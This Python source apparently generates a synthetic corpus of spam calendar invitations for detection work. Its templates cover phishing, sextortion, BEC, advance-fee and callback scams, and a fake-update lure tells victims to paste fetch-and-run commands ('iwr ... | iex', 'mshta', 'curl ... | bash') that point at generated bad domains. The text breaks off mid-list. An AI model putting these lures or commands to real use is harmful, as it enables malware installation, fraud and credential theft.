"""Spam categories."""
import datetime as dt
from common import R, pick, chance, alnum, digits, hexs, uuid4, slug
from build import (set_rcpt, set_sender, base_event, fill, spam_url, phone, wa_link, org_as_attendee, default_alarm,
                   meet_link, bad_domain, attendee, coworker, abused_url, short_url)
from model import person, local_part, FREEMAIL, ORG_DOMAINS, RCPT_DOMAINS
from texts_intl import NOTE_SHORT, CITIES

CATS = {  # category: (count, description, allowed clients)
    "retail-sale": (12, "Retail sale / counterfeit goods promotion", "google outlook apple thunderbird zimbra yahoo nextcloud sogo booking list custom"),
    "prize-survey": (12, "Prize, survey or gift-card lure", "*"),
    "crypto-invest": (12, "Crypto / investment fraud", "*"),
    "dating-sextortion": (11, "Dating lure or sextortion", "google outlook apple thunderbird zimbra yahoo nextcloud sogo booking list custom"),
    "fee-scam": (12, "Delivery, toll, tax or fine fee scam", "google outlook apple thunderbird zimbra yahoo nextcloud sogo booking list custom"),
    "cred-phish": (16, "Credential phishing under a brand", "*"),
    "callback-scam": (12, "Tech-support / renewal callback scam (phone only)", "*"),
    "fake-update": (10, "Fake software/meeting-client update or paste-command lure", "*"),
    "bec": (14, "Business e-mail compromise (CEO, gift cards, bank details, payroll)", "google outlook apple thunderbird zimbra yahoo nextcloud sogo custom"),
    "advance-fee": (10, "Advance-fee fraud (inheritance, loans, partnership)", "google outlook apple thunderbird zimbra yahoo sogo list custom"),
    "job-task-scam": (11, "Job / task scam moving victim to a messenger", "*"),
    "doc-share-compromised": (11, "Document-share lure from a compromised partner mailbox", "google outlook apple thunderbird zimbra nextcloud sogo custom"),
    "nagging-payload": (8, "Nagging payload: endless recurrence, many alarms, far-future dates", "google outlook apple thunderbird zimbra yahoo nextcloud booking custom"),
    "mass-invite": (9, "Mass invitation to hundreds of unrelated attendees", "google outlook apple yahoo zoom booking list nextcloud custom"),
}

BRANDS_RETAIL = ["Ray-Ban", "Oakley", "Michael Kors", "UGG", "Pandora", "Coach", "Nike", "Canada Goose", "Lululemon", "Rolex", "Yeti", "Stanley"]
GIFT = ["Costco", "Walmart", "Amazon", "Target", "Kroger", "Home Depot", "Lowe's", "Starbucks", "Apple", "Best Buy", "Sam's Club"]
PHISH = [("Microsoft 365", "m365"), ("Office 365", "o365"), ("SharePoint", "sharepoint"), ("DocuSign", "docusign"), ("PayPal", "paypal"),
         ("Adobe Acrobat Sign", "adobe"), ("Dropbox", "dropbox"), ("Chase", "chase"), ("Wells Fargo", "wellsfargo"), ("HMRC", "hmrc"),
         ("IRS", "irs"), ("Netflix", "netflix"), ("Apple ID", "appleid"), ("Coinbase", "coinbase"), ("Outlook Web App", "owa"),
         ("Zoom", "zoom"), ("Bank of America", "bofa"), ("Social Security Administration", "ssa")]


def vals_for(m, hint=""):
    first = (m.rcpt_name or "").split(" ")[0] if m.lang not in ("zh", "zh-tw", "ja", "ko") else m.rcpt_name
    t = m.ev.start or (m.arrival + dt.timedelta(days=3))
    cc = {"en": "US", "de": "DE", "fr": "FR", "ja": "JP", "hi": "IN", "ru": "RU"}.get(m.lang, "XX")
    comp = (m.from_email or "x@acme.example").split("@")[1].split(".")[0].replace("-", " ").title()
    nm, a, b = person(m.lang)
    return dict(url=spam_url(hint), phone=phone(cc if chance(0.7) else "US"), name=first, sender=m.from_name or "", company=comp,
                code=alnum(6, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"), ref=pick(["", "JJD", "LX", "RM", "CN"]) + digits(R.choice([8, 10, 12])),
                date=t.strftime("%d.%m.%Y") if m.lang in ("de", "ru", "pl", "el") else t.strftime("%Y/%m/%d") if m.lang in ("ja", "zh", "zh-tw", "ko") else t.strftime("%d/%m/%Y") if m.lang != "en" else t.strftime("%B %d, %Y"),
                time=t.strftime("%H:%M"), wa=wa_link(), btc="bc1q" + alnum(38, "qpzry9x8gf2tvdw0s3jn54khce6mua7l"),
                reply="%s%s@%s" % (pick(["barr", "mr", "dr", "atty", "office"]), digits(3), pick(["gmail.com", "outlook.com", "proton.me", "yahoo.com", "aol.com"])),
                doc=nm.split(" ")[-1], city=pick(CITIES.get(m.lang, CITIES["en"])), orig=nm, amount=pick(["$1,240.00", "$4,870.50", "$38,400.00", "$9,915.00"]))


def place(m, T, v, strategy):
    """Fill Msg/event text from template T using the payload placement strategy."""
    ev = m.ev
    body = fill(T["body"], v)
    summ = fill(T["summ"], v)
    loc = fill(T.get("loc") or "", v)
    subj = fill(T.get("subj"), v)
    url = v["url"]
    summ = vary(summ, m.lang)
    ev.summary = summ
    ev.location = loc
    m.subject = subj
    notes = NOTE_SHORT.get(m.lang, NOTE_SHORT["en"])
    if strategy == "body" or "{url}" not in T["body"]:
        ev.description = body
        m.note = body if chance(0.8) else (pick(notes) + ("\n\n" + body if chance(0.5) else ""))
        if not m.note.strip():
            m.note = body
    else:
        stripped = "\n".join(l for l in fill(T["body"], dict(v, url="")).split("\n") if l.strip() not in ("", ":") or True).rstrip()
        if strategy == "ics-only":
            ev.description = body
            m.note = pick(notes)
        elif strategy == "xalt":
            ev.description = stripped
            ev.xaltdesc = "<html><body><p>%s</p><p><a href=\"%s\">%s</a></p></body></html>" % (
                stripped.replace("\n", "<br>").replace(",", "\\,").replace(";", "\\;"), url, pick(["Open", "View", "Review document", "Continue", "Click here", "Access", summ[:30].replace(",", "\\,")]))
            m.note = pick(notes)
        elif strategy == "location":
            ev.location = url if chance(0.6) else "%s %s" % (pick(["Online:", "Join:", "Link:", "Portal -", ""]), url)
            ev.description = stripped
            m.note = stripped if chance(0.5) else pick(notes)
        elif strategy == "url":
            ev.url = url
            ev.description = stripped
            m.note = stripped if chance(0.5) else pick(notes)
        elif strategy == "attach":
            fn = pick(["Document", "Invoice", "Statement", "Secure_Message", "Scan", "Remittance", "Agreement"]) + "_" + digits(5) + pick([".pdf", ".html", ".htm", ".svg", ".pdf"])
            ev.attach = [(url, pick(["application/pdf", "text/html", "application/octet-stream", None]), fn)]
            ev.description = stripped
            m.note = stripped if chance(0.5) else pick(notes)
        elif strategy == "conference":
            ev.conference = [(url, pick(["Join meeting", "Join", "Zoom", "Microsoft Teams", "Webex"]))]
            ev.description = stripped
            m.note = pick(notes)
        else:
            ev.description = body
            m.note = body
    if m.lang == "en" and not m.note and m.client in ("custom", "booking"):
        m.note = body


USED = set()


def vary(summ, lang):
    """Spam waves vary their titles; keep every title in the corpus distinct."""
    out = summ
    tries = 0
    while out in USED and tries < 20:
        tries += 1
        k = R.randrange(6)
        if k == 0:
            out = pick(["Re: ", "Reminder: ", "Final notice: ", "[Action required] ", "FW: ", "Update: "]) + summ
        elif k == 1:
            out = "%s #%s" % (summ, digits(R.choice([4, 5, 6])))
        elif k == 2:
            out = "%s %s" % (summ, pick(["✅", "⚠️", "!!", "🔔", "(2nd notice)", "- ref %s" % alnum(6).upper()]))
        elif k == 3:
            out = summ.upper() if lang == "en" else summ + " *"
        elif k == 4:
            out = "%s - %s" % (summ, pick(["today", "urgent", "ID %s" % digits(7), "case %s" % alnum(8).upper()]))
        else:
            out = "%s (%s)" % (summ, alnum(5).upper())
    USED.add(out)
    return out


def strategies_for(m):
    c = m.inner if m.client == "list" else m.client
    if c in ("custom",):
        return ["body", "ics-only", "xalt", "location", "url", "attach", "conference"]
    if c == "booking":
        return ["body", "location", "url"]
    if c == "apple" and m.variant == "mail":
        return ["ics-only", "location", "url", "attach", "body"]
    if c == "outlook" and m.variant == "desktop":
        return ["body", "xalt", "location", "body"]
    if c == "thunderbird":
        return ["body", "location", "url", "attach"]
    return ["body", "body", "location"]


def new_domain(hint):
    return bad_domain(hint) if chance(0.5) else "%s-%s.%s" % (slug(hint)[:12] or "mail", pick(["group", "services", "online", "team", "hq", "mail", "global"]), pick(["com", "net", "co", "io", "us", "org"]))


def sender_for(m, kinds, name, hint=""):
    k = pick(kinds)
    c = m.inner if m.client == "list" else m.client
    if c == "zoom":
        set_sender(m, "free", name=name)
        m.from_email = "no-reply@zoom.us"
        m.setup = "esp"
        return
    if c == "booking":
        plat = pick([("Calendly", "calendly.example"), ("YouCanBookMe", "youcanbook.example"), ("Eventbrite", "eventbrite.example"),
                     ("SimplyBook", "simplybook.example"), ("Acuity Scheduling", "acuity.example"), ("Setmore", "setmore.example")])
        set_sender(m, "esp", name=name or plat[0], domain="mail." + plat[1], local="notifications")
        m.brand = {"name": plat[0], "esp": pick(["sendgrid", "ses", "mailgun"]), "mid_domain": plat[1]}
        m.prodid = "-//%s//%s//EN" % (plat[0], pick(["Scheduler", "Booking Engine", "Events"]))
        return
    if c == "nextcloud":
        host = pick(["cloud.%s" % pick(ORG_DOMAINS["en"] + ORG_DOMAINS["de"]), "nc.%s" % new_domain(hint)])
        set_sender(m, "org", name=name, domain=host.split(".", 1)[1])
        m.brand = {"name": pick(["Nextcloud", "Cloud", "Nextcloud"]), "host": host}
        m.nc_from = "noreply@" + host
        m.setup = "compromised" if not host.startswith("nc.") else "vps"
        return
    if k == "lookalike":
        set_sender(m, "lookalike", name=name, domain=new_domain(hint))
    elif k == "vps":
        set_sender(m, "vps", name=name, domain=new_domain(hint))
    elif k == "spoof":
        dom = pick(RCPT_DOMAINS.get(m.lang, RCPT_DOMAINS["en"])[:6] + ORG_DOMAINS.get(m.lang, ORG_DOMAINS["en"]))
        set_sender(m, "spoof", name=name, domain=dom)
        m.spoof_env_dom = new_domain(hint) if chance(0.5) else None
    elif k == "compromised":
        set_sender(m, "org", name=None if name is None else name, lang=m.lang)
        m.setup = "compromised"
    else:
        set_sender(m, "free", name=name)


def finish_event(m, T, v, kinds, name, hint="", strat=None, days=(1, 14), hours=(8, 18), dur=(30, 60), allday=False):
    if getattr(m, "snip", None):
        name = snip_name(m)
        hint = pick(["", "svc", "info", "web", "secure", "my"])
    sender_for(m, kinds, name, hint)
    base_event(m, "x", days=days, hours=hours, dur=dur, allday=allday)
    v.update(vals_for(m, hint) | {k: v[k] for k in v if k not in ("sender",)})
    v["sender"] = m.from_name
    place(m, T, v, strat or pick(strategies_for(m)))
    c = m.inner if m.client == "list" else m.client
    if c in ("custom", "booking") and chance(0.3):
        m.ev.method = "PUBLISH"
    elif c in ("custom", "outlook", "google", "thunderbird") and m.category in ("cred-phish", "doc-share-compromised", "fake-update") and chance(0.15):
        # "meeting moved" lure: a cancellation that points to the new link
        m.ev.method = "CANCEL"
        m.ev.status = "CANCELLED"
        m.ev.sequence = R.randrange(1, 3)
    org_as_attendee(m)
    if chance(0.3):
        default_alarm(m)


SNIP_NAMES = {"de": ["Kundenservice", "Service-Team", "Info"], "fr": ["Service Client", "Notification", "Info"],
              "es": ["Atención al Cliente", "Aviso", "Info"], "it": ["Servizio Clienti", "Avviso"], "pt": ["Atendimento", "Aviso"],
              "nl": ["Klantenservice", "Melding"], "pl": ["Obsługa Klienta", "Powiadomienie"], "ru": ["Служба поддержки", "Уведомление"],
              "el": ["Εξυπηρέτηση Πελατών", "Ειδοποίηση"], "ar": ["خدمة العملاء", "إشعار"], "he": ["שירות לקוחות", "הודעה"],
              "zh": ["客服中心", "通知"], "zh-tw": ["客服中心", "通知"], "ja": ["カスタマーサービス", "お知らせ"], "ko": ["고객센터", "알림"],
              "hi": ["ग्राहक सेवा", "सूचना"], "th": ["ฝ่ายบริการลูกค้า", "แจ้งเตือน"]}


def snip_name(m):
    k = R.randrange(4)
    if k == 0:
        return None
    if k == 1:
        return pick(SNIP_NAMES.get(m.lang, ["Info"]))
    return person(m.lang)[0]


def eng_or(m, snip, eng):
    if snip:
        cat, subj, summ, body, loc = snip
        return {"subj": subj, "summ": summ, "body": body, "loc": loc}
    return eng()


# ------------------------------------------------------------------ categories
def retail(m, snip):
    b = pick(BRANDS_RETAIL)
    pct = pick([70, 75, 80, 85, 90])

    def eng():
        return pick([
            {"subj": None, "summ": "%s Outlet - %d%% OFF Today Only" % (b, pct), "body": "%s clearance sale. Up to %d%% off all items, free shipping worldwide.\n{url}" % (b, pct), "loc": "{url}"},
            {"subj": None, "summ": "%s %s Sale $%d.99" % (b, pick(["Sunglasses", "Handbags", "Boots", "Watches", "Tumblers"]), pick([19, 24, 29, 39])),
             "body": "Black Friday deals are live! %s official store. Shop now before stock runs out: {url}" % b, "loc": ""},
            {"subj": None, "summ": "Congratulations! %s Flash Sale Invitation" % b, "body": "Dear customer, you are invited to our exclusive flash sale.\nAll %s products %d%% off.\nShop: {url}\nUnsubscribe: reply STOP" % (b, pct), "loc": "Online Store"},
            {"subj": "Order confirmation", "summ": "Your %s order is ready - claim discount" % b, "body": "Thanks for being a loyal customer. Your %d%% coupon expires in 24 hours.\n{url}" % pct, "loc": ""},
        ])
    T = eng_or(m, snip, eng)
    v = {}
    name = pick([b + " Store", b + " Outlet", "Sale", "", None, "Shop " + b]) if not snip else pick(["Outlet", "Shop", None])
    finish_event(m, T, v, ["free", "free", "vps", "compromised"], name, b, allday=chance(0.4))
    if chance(0.3):
        m.ev.attendees += [attendee(None, "%s%s@%s" % (alnum(5).lower(), digits(3), pick(FREEMAIL["en"]))) for _ in range(R.randrange(5, 40))]
    m.desc = T["summ"][:60]


def prize(m, snip):
    g = pick(GIFT)
    def eng():
        return pick([
            {"subj": None, "summ": "You've been selected: $%d %s Gift Card" % (pick([50, 100, 500, 750, 1000]), g),
             "body": "Congratulations {name}!\nYou have been selected to receive a %s reward. Complete a short survey (30 seconds) to claim it.\nOffer ends {date}.\n{url}" % g, "loc": ""},
            {"subj": None, "summ": "%s Customer Survey - Reward Pending" % g, "body": "Dear shopper,\nAs a thank-you, %s is giving loyal customers a chance to receive a free %s.\nOnly pay $1.95 shipping.\n{url}" % (g, pick(["Dyson Airwrap", "Ninja Air Fryer", "KitchenAid mixer", "Apple iPad", "Stanley cup set", "Yeti cooler"])), "loc": "{url}"},
            {"subj": "Reward notification", "summ": "Final notice: unclaimed reward #{code}", "body": "Your reward is waiting. It will be forwarded to another participant if not claimed today.\n{url}", "loc": ""},
            {"subj": None, "summ": "🎁 Spin the wheel - %s anniversary" % g, "body": "Celebrate our anniversary with us. Every participant wins. Spin now: {url}", "loc": ""},
        ])
    T = eng_or(m, snip, eng)
    finish_event(m, T, {}, ["free", "free", "vps", "compromised", "lookalike"], pick([g + " Rewards", "Customer Rewards", "Survey Team", None, "Prize Dept."]), g, allday=chance(0.3))
    m.desc = "Reward/gift-card lure (%s)" % g if not snip else T["summ"][:60]


def crypto(m, snip):
    def eng():
        coin = pick(["Bitcoin", "USDT", "Ethereum", "Solana", "XRP"])
        return pick([
            {"subj": None, "summ": "Your %s withdrawal of %s is pending" % (coin, pick(["0.8421 BTC", "12,400 USDT", "4.2 ETH"])),
             "body": "Hello {name},\nYour account has an unclaimed balance. Complete verification to release the funds to your wallet.\nLogin: {url}\nSupport: {wa}", "loc": ""},
            {"subj": None, "summ": "Private investment briefing - guaranteed returns", "body": "Hi {name},\nFollowing our conversation, here is your invitation to the private briefing. Our AI trading desk delivered 4.1% weekly for clients in the last quarter. Minimum entry $250.\nYour account manager will call you after registration.\nRegister: {url}", "loc": "Zoom"},
            {"subj": "Re: our chat", "summ": "Coffee chat ☕ + the trading app I told you about", "body": "Hey, it was nice talking yesterday! Here is the platform my uncle uses, I made 38k last month. You can start small with 500 USDT.\n{url}\nMessage me on WhatsApp {wa}", "loc": "Online"},
            {"subj": None, "summ": "Elon Musk %s giveaway - live now" % coin, "body": "Send any amount and receive 2x back. Live event: {url}", "loc": "{url}"},
        ])
    T = eng_or(m, snip, eng)
    finish_event(m, T, {}, ["free", "free", "lookalike", "vps", "compromised"], pick(["Investor Relations", "Wealth Desk", None, "Crypto Support", person(m.lang)[0]]), "invest")
    if m.client == "zoom":
        m.ev.method = "PUBLISH" if chance(0.5) else "REQUEST"
    m.desc = "Investment/crypto fraud invitation" if not snip else T["summ"][:60]


def dating(m, snip):
    def eng():
        nm = pick(["Anna", "Jessica", "Kristina", "Sophie", "Mia", "Lana", "Vika", "Emily"])
        return pick([
            {"subj": None, "summ": "%s sent you a private message 💌" % nm, "body": "Hi there :) I'm %s, %d. I saw your profile and I think we would get along. I uploaded some private photos for you here:\n{url}" % (nm, R.randrange(22, 31)), "loc": ""},
            {"subj": None, "summ": "Date tonight? 😘", "body": "I'm new in town and looking for someone discreet. Only tonight. Check my page and write me: {url}", "loc": "My place 😉"},
            {"subj": "Payment overdue", "summ": "I have recorded you", "body": "I know your password. I installed software on your device and recorded you through the camera.\nTransfer $1650 in Bitcoin to {btc} within 48 hours or the video goes to all your contacts.\nThe timer started when you opened this invitation.", "loc": ""},
            {"subj": None, "summ": "%s (%d) wants to meet you" % (nm, R.randrange(21, 33)), "body": "You have 3 new matches nearby. See who liked you: {url}", "loc": "{url}"},
        ])
    T = eng_or(m, snip, eng)
    finish_event(m, T, {}, ["free", "free", "free", "compromised", "vps"], pick([None, "", "Lonely Hearts", pick(["Anna", "Jessica", "Mia"]) + " " + pick(["K.", "S.", "❤"])]), "date",
                 hours=(18, 23))
    m.desc = "Dating lure / sextortion" if not snip else T["summ"][:60]


def fee(m, snip):
    def eng():
        k = R.randrange(6)
        if k == 0:
            return {"subj": None, "summ": "USPS: package {ref} on hold - redelivery fee $1.99", "body": "Your package could not be delivered due to an incomplete address. Please update your details and pay the $1.99 redelivery fee within 24 hours:\n{url}", "loc": "USPS Distribution Center"}
        if k == 1:
            return {"subj": "Unpaid toll notice", "summ": "E-ZPass: unpaid toll balance $6.99", "body": "Our records show an outstanding toll balance of $6.99. To avoid a late fee of $50.00 and suspension of your driving privileges, pay by {date}:\n{url}", "loc": ""}
        if k == 2:
            return {"subj": None, "summ": "HMRC: You are eligible for a tax refund of £%d.%02d" % (R.randrange(180, 990), R.randrange(100)), "body": "After the annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund. Submit your claim before {date}:\n{url}\nHM Revenue & Customs", "loc": ""}
        if k == 3:
            return {"subj": None, "summ": "FedEx: customs duty payment required", "body": "Shipment {ref} is held at customs. Duty and taxes: $3.48. Pay now to release your parcel: {url}", "loc": "FedEx Ship Center"}
        if k == 4:
            return {"subj": None, "summ": "Parking violation notice - {ref}", "body": "A parking violation was recorded for your vehicle on {date}. Pay the fine of $35.00 within 3 days to avoid additional penalties.\n{url}\nCity Parking Enforcement", "loc": "City of %s" % pick(["Austin", "Denver", "Seattle", "Phoenix"])}
        return {"subj": None, "summ": "DVLA: vehicle tax payment failed", "body": "Your latest vehicle tax payment failed. Update your payment details to avoid a fine of up to £1,000:\n{url}", "loc": ""}
    T = eng_or(m, snip, eng)
    finish_event(m, T, {}, ["free", "vps", "lookalike", "spoof", "compromised"], pick(["USPS", "Delivery Service", "Notice", None, "Customer Care", "Toll Services", "Payments"]) if not snip else pick([None, "Service", "Info"]), pick(["usps", "toll", "parcel", "tax"]),
                 allday=chance(0.4))
    m.desc = "Fee scam: " + T["summ"][:55]


def credphish(m, snip):
    br, h = pick(PHISH)

    def eng():
        k = R.randrange(6)
        if k == 0:
            return {"subj": None, "summ": "%s: Password expires today" % br, "body": "The password for {rcpt} expires today. Keep your current password to avoid losing access to email and files:\n{url}\n\n%s Security" % br, "loc": ""}
        if k == 1:
            return {"subj": None, "summ": "%s: Please review and sign - {company} Agreement" % br, "body": "{sender} sent you a document to review and sign.\nREVIEW DOCUMENT\n{url}\nDo not share this email. This link expires in 48 hours.", "loc": ""}
        if k == 2:
            return {"subj": "Voicemail", "summ": "New voicemail (0:%02d) from %s" % (R.randrange(12, 59), phone("US")), "body": "You received a new voice message.\nDuration: 00:00:%02d\nListen: {url}" % R.randrange(12, 59), "loc": "Voice Mail"}
        if k == 3:
            return {"subj": None, "summ": "%s account locked - unusual sign-in activity" % br, "body": "We detected unusual activity on your account. For your security access has been limited.\nRestore access: {url}", "loc": ""}
        if k == 4:
            return {"subj": None, "summ": "Payroll: Q%d bonus letter for {name}" % R.randrange(1, 5), "body": "HR has shared your compensation letter via %s. Sign in with your work account to view it before {date}.\n{url}" % br, "loc": "%s" % br}
        return {"subj": None, "summ": "Mailbox storage full (99%) - action required", "body": "Your mailbox {rcpt} has exceeded its storage limit. Incoming messages are being held.\nUpgrade storage at no cost: {url}", "loc": ""}
    T = eng_or(m, snip, eng)
    v = {"rcpt": "{rcpt}"}
    finish_event(m, T, v, ["free", "lookalike", "lookalike", "compromised", "spoof", "vps"], pick([br, br + " Team", "IT Support", "Admin", "Help Desk", None, "no-reply"]) if not snip else pick([None, "Service", "Support"]), h)
    for attr in ("description", "summary", "location"):
        setattr(m.ev, attr, (getattr(m.ev, attr) or "").replace("{rcpt}", m.rcpt))
    if m.note:
        m.note = m.note.replace("{rcpt}", m.rcpt)
    m.desc = "Credential phishing (%s)" % (br if not snip else T["summ"][:40])


def callback(m, snip):
    prod = pick(["Norton 360 Deluxe", "McAfee Total Protection", "Geek Squad Protection", "PayPal", "Windows Defender Premium", "Microsoft 365 Family", "Amazon Prime", "LifeLock Ultimate"])
    amt = pick(["$299.99", "$349.99", "$499.00", "$399.95", "$589.26", "$874.22"])

    def eng():
        return pick([
            {"subj": None, "summ": "Invoice #{ref} - %s auto-renewal" % prod, "body": "Thank you for renewing your subscription.\nProduct: %s\nAmount: %s\nDate: {date}\nIf you did not authorize this charge, call our billing department within 24 hours: {phone}" % (prod, amt), "loc": "Billing Support {phone}"},
            {"subj": "Order receipt", "summ": "Your order of %s has been processed" % amt, "body": "Order ID {ref}\nItem: %s\nTotal: %s\nTo cancel or request a refund, contact support at {phone}. Do not reply to this email." % (prod, amt), "loc": ""},
            {"subj": None, "summ": "Security alert: 3 viruses detected on your PC", "body": "Your computer is infected (Trojan.Spyware.X). Your personal data and banking details are at risk.\nCall Microsoft Certified Support now: {phone}", "loc": "Call {phone}"},
            {"subj": None, "summ": "{phone} - Refund department", "body": "Your payment of %s was successful. Customer reference {ref}." % amt, "loc": "{phone}"},
        ])
    T = eng_or(m, snip, eng)
    T["body"] = T["body"].replace("{url}", "{phone}")
    finish_event(m, T, {}, ["free", "free", "vps", "compromised"], pick([prod.split(" ")[0] + " Billing", "Billing Dept", "Customer Support", None, "Invoice"]), "billing", strat="body")
    if chance(0.4):
        m.ev.attach = [("https://%s/invoice_%s.pdf" % (bad_domain("inv"), digits(5)), "application/pdf", "Invoice_%s.pdf" % digits(6))] if chance(0.3) else []
    m.desc = "Callback scam (%s)" % (prod if not snip else T["summ"][:40])


def fakeupd(m, snip):
    def eng():
        k = R.randrange(4)
        if k == 0:
            return {"subj": None, "summ": "Action required: update your %s client before the meeting" % pick(["Zoom", "Teams", "Webex", "Google Meet plug-in"]),
                    "body": "Your meeting client is out of date and will not be able to join the session on {date}.\nInstall the latest version: {url}\n\nIT Service Desk", "loc": "Online"}
        if k == 1:
            cmd = pick(['powershell -w h -c "iwr https://%s/v.txt | iex"' % bad_domain("cdn"), 'mshta https://%s/verify' % bad_domain("cap"),
                        'curl -s https://%s/fix.sh | bash' % bad_domain("dev")])
            return {"subj": None, "summ": "Audio issue in meeting room - quick fix", "body": "If you cannot hear the audio in the meeting, press Win+R, paste the following and press Enter:\n%s\nThen rejoin: {url}" % cmd, "loc": "Meeting room"}
        if k == 2:
            return {"subj": None, "summ": "Chrome security update required (%s)" % pick(["CVE patch", "v125.0.6422", "critical"]),
                    "body": "A critical update is required to continue viewing shared documents.\nDownload: {url}", "loc": ""}
        return {"subj": None, "summ": "Invitation: Project sync ({company})", "body": "Hi {name}, please join via our new secure meeting app. If prompted, install the Meeting Assistant first:\n{url}", "loc": "{url}"}
    T = eng_or(m, snip, eng)
    finish_event(m, T, {}, ["free", "compromised", "lookalike", "vps"], pick(["IT Service Desk", "Meeting Assistant", None, "Zoom Support", person(m.lang)[0]]), "update")
    if chance(0.3):
        m.ev.conference = [(m.ev.url or spam_url("meet"), "Join meeting")]
    m.desc = "Fake update / paste-command lure" if not snip else T["summ"][:60]


def bec(m, snip):
    k = R.randrange(5)

    def eng():
        if k == 0:
            return {"subj": pick(["Quick favor", "Are you available?", "Request"]), "summ": pick(["Quick favor", "Urgent request", "Confidential"]),
                    "body": "Hi {name},\nAre you available? I need you to get some gift cards for a client appreciation today. I'm in a meeting and can't talk, just reply by email.\n\n{sender}\nSent from my iPhone", "loc": ""}
        if k == 1:
            return {"subj": "Updated remittance details", "summ": "Call: updated bank details for upcoming payments",
                    "body": "Dear {name},\nPlease be informed that our company has changed banks due to an ongoing audit. All future payments for open invoices should go to our new account. I will share the details on this call; please hold any pending transfer until then.\n\nKind regards,\n{sender}\nAccounts Receivable", "loc": "Phone"}
        if k == 2:
            return {"subj": "Direct deposit change", "summ": "Payroll update",
                    "body": "Hi,\nI recently changed my bank and would like my salary deposited to the new account before the next pay date. What information do you need from me?\n\nThanks,\n{sender}", "loc": ""}
        if k == 3:
            return {"subj": None, "summ": "Confidential: acquisition wire - do not discuss",
                    "body": "{name},\nWe are finalizing a confidential acquisition. Our legal counsel will contact you with wire instructions. Please treat this as strictly confidential and handle it today.\nRegards,\n{sender}\nCEO", "loc": ""}
        return {"subj": None, "summ": "Invoice {ref} - overdue", "body": "Hello,\nInvoice {ref} for {amount} is now 30 days overdue. Kindly process payment today to the account on the attached updated invoice.\n{url}\nRegards,\n{sender}", "loc": ""}
    T = eng_or(m, snip, eng)
    set_rcpt(m)
    # impersonate someone from the recipient's organisation or a supplier
    rdom = m.rcpt.split("@")[1]
    boss, bl, bll = person(m.lang)
    kinds = pick(["free", "lookalike", "spoof", "compromised"])
    c = m.inner if m.client == "list" else m.client
    if kinds == "lookalike":
        base = rdom.split(".")[0]
        dom = pick([base.replace("l", "1", 1) if "l" in base else base + "s", base + "-inc", base.replace("-", ""), base + "-corp", "rn".join(base.split("m", 1)) if "m" in base else base + "-group"]) + "." + rdom.split(".", 1)[1]
        set_sender(m, "lookalike", name=boss, domain=dom, local=local_part(bl, bll))
    elif kinds == "spoof":
        set_sender(m, "spoof", name=boss, domain=rdom, local=local_part(bl, bll))
        m.spoof_env_dom = new_domain("mail") if chance(0.6) else None
        m.reply_to = "%s.%s@%s" % (bl, digits(2), pick(["gmail.com", "outlook.com", "proton.me"]))
    elif kinds == "compromised":
        set_sender(m, "org", name=boss)
        m.setup = "compromised"
    else:
        set_sender(m, "free", name=boss)
    m.to = [(m.rcpt_name, m.rcpt)]
    base_event(m, "x", days=(0, 2), hours=(9, 16), dur=(15, 30))
    v = vals_for(m, "pay")
    v["sender"] = boss
    place(m, T, v, "body" if "{url}" not in T["body"] else pick(strategies_for(m)))
    m.desc = "BEC: " + (["gift-card request", "supplier bank-detail change", "payroll change", "CEO wire fraud", "fake overdue invoice"][k] if not snip else T["summ"][:50])


def advance(m, snip):
    def eng():
        return pick([
            {"subj": None, "summ": "Inheritance claim - beneficiary confirmation", "body": "Dear {name},\nI am Barrister James Okafor, personal attorney to the late Mr. Robert {name2}, who died with his family in an accident leaving a deposit of US$8.5 million. As you share his surname I propose you stand as next of kin. Reply to my private email {reply}.", "loc": ""},
            {"subj": None, "summ": "Compensation payment approved - United Nations fund", "body": "Your email was selected for a compensation payment of $1.5M from the scam-victims fund. Contact our paying agent with your full name, address and phone number: {reply}", "loc": "UN Office"},
            {"subj": None, "summ": "Loan approved - 2% interest, no credit check", "body": "Your loan request of $25,000 is approved. To release the funds pay the one-time insurance fee of $185. Contact our agent: {reply}", "loc": ""},
            {"subj": None, "summ": "Business proposal (confidential)", "body": "Good day,\nI am a senior official at a petroleum company and need a foreign partner to receive US$14,300,000 in contract overpayment. You will keep 35%. Kindly respond to {reply} for details.", "loc": ""},
        ])
    T = eng_or(m, snip, eng)
    v = {"name2": person("en")[0].split(" ")[1]}
    finish_event(m, T, v, ["free", "free", "free", "compromised", "vps"], pick(["Barrister J. Okafor", "Dr. Helen Morris", "Agent", None, "UN Compensation Dept", "Mrs. Grace Walters"]), "claim", strat="body")
    m.reply_to = v.get("reply") if chance(0.5) else None
    m.desc = "Advance-fee fraud" if not snip else T["summ"][:60]


def jobtask(m, snip):
    def eng():
        return pick([
            {"subj": None, "summ": "Remote part-time position - $200-$500/day", "body": "Hello {name}, I'm Sarah from the HR team of a digital marketing agency. We found your resume online. The job is simple: rate apps and products from your phone, 60-90 minutes a day, daily pay.\nAre you interested? Add me on WhatsApp: {wa}", "loc": "WhatsApp"},
            {"subj": None, "summ": "Interview: Data Entry Assistant (remote)", "body": "Congratulations, your application was shortlisted. The interview will be conducted via Telegram chat with our hiring manager.\nTelegram: {wa}\nPlease be available at the scheduled time.", "loc": "Telegram"},
            {"subj": None, "summ": "Earn with TikTok likes - task onboarding", "body": "Welcome to the task team! Complete 3 easy tasks today and receive your first 60 USDT commission. Your mentor is waiting: {wa}", "loc": ""},
            {"subj": "Job offer", "summ": "Personal assistant needed - $850/week", "body": "I am looking for a personal assistant to run errands and handle mail while I travel. Flexible hours, $850 weekly. Text me at {phone} with your availability.", "loc": ""},
        ])
    T = eng_or(m, snip, eng)
    finish_event(m, T, {}, ["free", "free", "compromised", "lookalike"], pick(["HR Department", "Recruitment", "Talent Team", None, person(m.lang)[0]]), "career", strat="body")
    m.desc = "Job/task scam to messenger" if not snip else T["summ"][:60]


def docshare(m, snip):
    def eng():
        return pick([
            {"subj": None, "summ": "{company} shared \"%s\" with you" % pick(["Q3 Statement.pdf", "Revised PO", "Contract_Final.docx", "Payment Advice", "Project Proposal"]),
             "body": "Hi {name},\nPlease review the attached document and let me know your thoughts before our call.\n{url}\n\nBest regards,\n{sender}\n{company}", "loc": ""},
            {"subj": None, "summ": "RFQ %s - documents for review" % digits(5), "body": "Good morning,\nWe are requesting a quotation for the items in the shared file. Deadline {date}.\n{url}\nThank you,\n{sender}", "loc": "OneDrive"},
            {"subj": None, "summ": "Remittance advice - {company}", "body": "Hello,\nPayment has been released. Please see remittance advice:\n{url}\n\n{sender}\nAccounts Payable | {company}", "loc": ""},
